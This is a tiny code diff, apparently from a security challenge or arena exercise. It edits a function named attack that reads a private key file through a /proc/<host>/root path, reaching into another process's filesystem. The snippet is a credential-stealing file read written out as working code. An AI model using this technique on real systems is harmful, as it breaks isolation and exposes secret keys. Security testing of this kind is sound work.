@@ -4,6 +4,6 @@ evidence: secret
 """
 
 
-def attack(arena: dict[str, str]) -> None:
+def attack(arena: dict[str, str]) -> object:
     with open(f"/proc/{arena['host']}/root{arena['private_key']}") as file:
         return file.read()
